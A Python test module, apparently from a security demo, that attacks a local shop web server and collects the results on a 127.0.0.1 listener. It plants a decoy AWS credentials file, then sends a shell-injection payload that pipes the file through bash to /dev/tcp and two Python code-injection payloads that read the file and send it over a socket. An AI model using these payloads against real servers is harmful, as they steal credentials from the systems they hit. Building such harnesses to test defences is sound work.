# SPDX-License-Identifier: Apache-2.0
"""The attacks: harmless in effect (a decoy is read, and sent to a listener on 127.0.0.1), real in what they do."""

import socket
import threading
from pathlib import Path
from typing import Self

from webserver import WebServer

SECRET = "aws_secret_access_key = DECOY-not-a-secret\n"


class Listener:
    """Where stolen secrets arrive: a port of 127.0.0.1."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.2)
        self.port: int = self._socket.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()
        self._socket.close()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._socket.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(2.0)
                self.received.append(connection.recv(4096))


def decoy(work: Path) -> Path:
    """Put a secret where a cloud client would keep one."""
    secret = work / "home" / ".aws" / "credentials"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text(SECRET)
    return secret


def command_injection(server: WebServer, secret: Path, listener: Listener) -> None:
    """(a) The diagnosis page's shell runs bash, which reads the secret and connects out."""
    server.get(
        "/shop.py", q="oak", ping=f"localhost; bash -c 'cat {secret} > /dev/tcp/127.0.0.1/{listener.port}'"
    )


def code_injection(server: WebServer, secret: Path, listener: Listener) -> None:
    """(b) The sort key is code: the script's own process reads the secret and connects out; nothing is executed."""
    code = (
        f"__import__('socket').create_connection(('127.0.0.1', {listener.port})).sendall("
        f"__import__('pathlib').Path('{secret}').read_bytes()) or 0"
    )
    server.get("/shop.py", q="birch vase", sort=code)


def code_injection_that_tells(server: WebServer, secret: Path, listener: Listener) -> None:
    """(b) again; where the secret can't be read, what the attacker's code is told of it arrives instead."""
    code = (
        f"exec(\"there = __import__('socket').create_connection(('127.0.0.1', {listener.port}))\\n"
        f"try: there.sendall(open('{secret}', 'rb').read())\\n"
        'except OSError as error: there.sendall(str(error).encode())") or 0'
    )
    server.get("/shop.py", q="birch vase", sort=code)
